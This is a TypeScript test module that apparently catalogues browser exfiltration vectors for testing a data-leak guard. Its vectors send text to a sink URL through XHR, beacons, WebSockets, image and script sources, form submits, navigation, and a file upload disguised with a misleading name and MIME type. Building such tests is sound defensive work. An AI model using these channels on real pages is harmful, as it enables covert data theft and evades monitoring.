import { inMultipart, inParams, inQuery } from "./vector.ts";
import type { Vector } from "./vector.ts";

export const XHR: readonly Vector[] = [
  {
    name: "xhr-string",
    run: (text, url) => {
      const xhr = new XMLHttpRequest();
      xhr.open("POST", url);
      xhr.send(text);
    },
  },
  {
    name: "xhr-sync",
    run: (text, url) => {
      const xhr = new XMLHttpRequest();
      xhr.open("POST", url, false);
      xhr.send(text);
    },
  },
  {
    name: "xhr-blob",
    run: (text, url) => {
      const xhr = new XMLHttpRequest();
      xhr.open("POST", url);
      xhr.send(new Blob([text], { type: "text/x-notes" }));
    },
    arrives: ({ headers, body }, text) =>
      headers["content-type"] === "text/x-notes" && body.toString() === text,
  },
  {
    name: "xhr-form-data",
    run: (text, url) => {
      const xhr = new XMLHttpRequest();
      const form = new FormData();
      form.append("prompt", text);
      xhr.open("POST", url);
      xhr.send(form);
    },
    arrives: inMultipart,
  },
  {
    name: "xhr-params",
    run: (prompt, url) => {
      const xhr = new XMLHttpRequest();
      xhr.open("POST", url);
      xhr.send(new URLSearchParams({ prompt }));
    },
    arrives: (received, text) =>
      inParams(received, text) &&
      received.headers["content-type"]?.startsWith("application/x-www-form-urlencoded") === true,
  },
  {
    name: "xhr-buffer",
    run: (text, url) => {
      const xhr = new XMLHttpRequest();
      xhr.open("POST", url);
      xhr.send(new TextEncoder().encode(text).buffer);
    },
  },
  {
    name: "xhr-document",
    run: (text, url) => {
      const xhr = new XMLHttpRequest();
      const xml = new DOMParser().parseFromString("<a/>", "application/xml");
      xml.documentElement.textContent = text;
      xhr.open("POST", url);
      xhr.send(xml);
    },
    arrives: ({ body }, text) =>
      body.toString() ===
      `<a>${text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;")}</a>`,
  },
  {
    name: "xhr-query",
    run: (text, url) => {
      const xhr = new XMLHttpRequest();
      xhr.open("GET", `${url}?q=${encodeURIComponent(text)}`);
      xhr.send();
    },
    arrives: inQuery,
  },
];

export const OTHERS: readonly Vector[] = [
  { name: "beacon-string", run: (text, url) => navigator.sendBeacon(url, text) },
  { name: "beacon-blob", run: (text, url) => navigator.sendBeacon(url, new Blob([text])) },
  {
    name: "beacon-form-data",
    run: (text, url) => {
      const form = new FormData();
      form.append("prompt", text);
      return navigator.sendBeacon(url, form);
    },
    arrives: inMultipart,
  },
  {
    name: "websocket-text",
    run: (text, url) => {
      const socket = new WebSocket(url.replace("https", "wss").replace("/sink/", "/ws/"));
      socket.addEventListener("open", () => socket.send(text));
    },
  },
  {
    name: "websocket-blob",
    run: (text, url) => {
      const socket = new WebSocket(url.replace("https", "wss").replace("/sink/", "/ws/"));
      socket.addEventListener("open", () => socket.send(new Blob([text])));
    },
  },
  {
    name: "websocket-buffer",
    run: (text, url) => {
      const socket = new WebSocket(url.replace("https", "wss").replace("/sink/", "/ws/"));
      socket.addEventListener("open", () => socket.send(new TextEncoder().encode(text)));
    },
  },
  {
    name: "websocket-query",
    run: (text, url) => {
      const base = url.replace("https", "wss").replace("/sink/", "/ws/");
      return void new WebSocket(`${base}?q=${encodeURIComponent(text)}`);
    },
    arrives: inQuery,
  },
  {
    name: "event-source",
    run: (text, url) => void new EventSource(`${url}?q=${encodeURIComponent(text)}`),
    arrives: inQuery,
  },
  {
    name: "img-src",
    run: (text, url) => {
      new Image().src = `${url}?q=${encodeURIComponent(text)}`;
    },
    arrives: inQuery,
  },
  {
    name: "img-attribute",
    run: (text, url) => {
      const image = document.createElement("img");
      image.setAttribute("src", `${url}?q=${encodeURIComponent(text)}`);
    },
    arrives: inQuery,
  },
  {
    name: "script-src",
    run: (text, url) => {
      const script = document.createElement("script");
      script.src = `${url}?q=${encodeURIComponent(text)}`;
      document.head.append(script);
    },
    arrives: inQuery,
  },
  {
    name: "window-open",
    run: (text, url) => void window.open(`${url}?q=${encodeURIComponent(text)}`),
    arrives: inQuery,
  },
  {
    name: "anchor-blank",
    run: (text, url) => {
      const link = document.createElement("a");
      link.href = `${url}?q=${encodeURIComponent(text)}`;
      link.target = "_blank";
      link.click();
    },
    arrives: inQuery,
  },
];

/** Ways out that leave the page: each runs in a frame of its own, which stands at a page of the guarded host. */
export const LEAVING: readonly Vector[] = [
  {
    name: "form-submit-post",
    run: (text, url) => {
      const form = document.createElement("form");
      form.method = "post";
      form.action = url;
      const area = document.createElement("textarea");
      area.name = "prompt";
      area.value = text;
      form.append(area);
      document.body.append(form);
      form.submit();
    },
    arrives: inParams,
  },
  {
    name: "form-submit-get",
    run: (text, url) => {
      const form = document.createElement("form");
      form.action = url;
      const area = document.createElement("textarea");
      area.name = "q";
      area.value = text;
      form.append(area);
      document.body.append(form);
      form.submit();
    },
    arrives: ({ url }, text) =>
      new URL(url, "https://fixture").searchParams.get("q") === text.replaceAll("\n", "\r\n"),
  },
  {
    name: "form-submit-multipart",
    run: (text, url) => {
      const form = document.createElement("form");
      form.method = "post";
      form.enctype = "multipart/form-data";
      form.action = url;
      const area = document.createElement("textarea");
      area.name = "prompt";
      area.value = text;
      form.append(area);
      document.body.append(form);
      form.submit();
    },
    arrives: inMultipart,
  },
  {
    name: "form-submit-source-file",
    run: (text, url) => {
      document.body.innerHTML = `<form method="post" enctype="multipart/form-data" action="${url}">
        <input type="file" name="notes"></form>`;
      const [form] = document.forms;
      const transfer = new DataTransfer();
      const type = "video/vnd.dlna.mpeg-tts";
      transfer.items.add(new File([text], "config.ts", { type }));
      Object.assign(document.querySelector("input") ?? {}, { files: transfer.files });
      form?.submit();
    },
    arrives: ({ body }, text) => body.toString().includes(`\r\n\r\n${text}\r\n`),
  },
  {
    name: "request-submit",
    run: (text, url) => {
      const form = document.createElement("form");
      form.method = "post";
      form.action = url;
      const area = document.createElement("textarea");
      area.name = "prompt";
      area.value = text;
      form.append(area);
      document.body.append(form);
      form.requestSubmit();
    },
    arrives: inParams,
  },
  {
    name: "request-submit-file",
    run: (text, url) => {
      const form = document.createElement("form");
      form.method = "post";
      form.enctype = "multipart/form-data";
      form.action = url;
      const field = document.createElement("input");
      field.type = "file";
      field.name = "notes";
      const transfer = new DataTransfer();
      transfer.items.add(new File([text], "notes.txt", { type: "text/plain" }));
      field.files = transfer.files;
      form.append(field);
      document.body.append(form);
      form.requestSubmit();
    },
    arrives: ({ body }, text) => body.toString().includes(`\r\n\r\n${text}\r\n`),
  },
  {
    name: "location",
    run: (text, url) => {
      location.href = `${url}?q=${encodeURIComponent(text)}`;
    },
    arrives: inQuery,
  },
  {
    name: "anchor-self",
    run: (text, url) => {
      const link = document.createElement("a");
      link.href = `${url}?q=${encodeURIComponent(text)}`;
      document.body.append(link);
      link.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
    },
    arrives: inQuery,
  },
  {
    name: "document-open",
    run: (body, url) => {
      document.open();
      document.write("<p>new</p>");
      document.close();
      return fetch(url, { method: "POST", body });
    },
  },
];
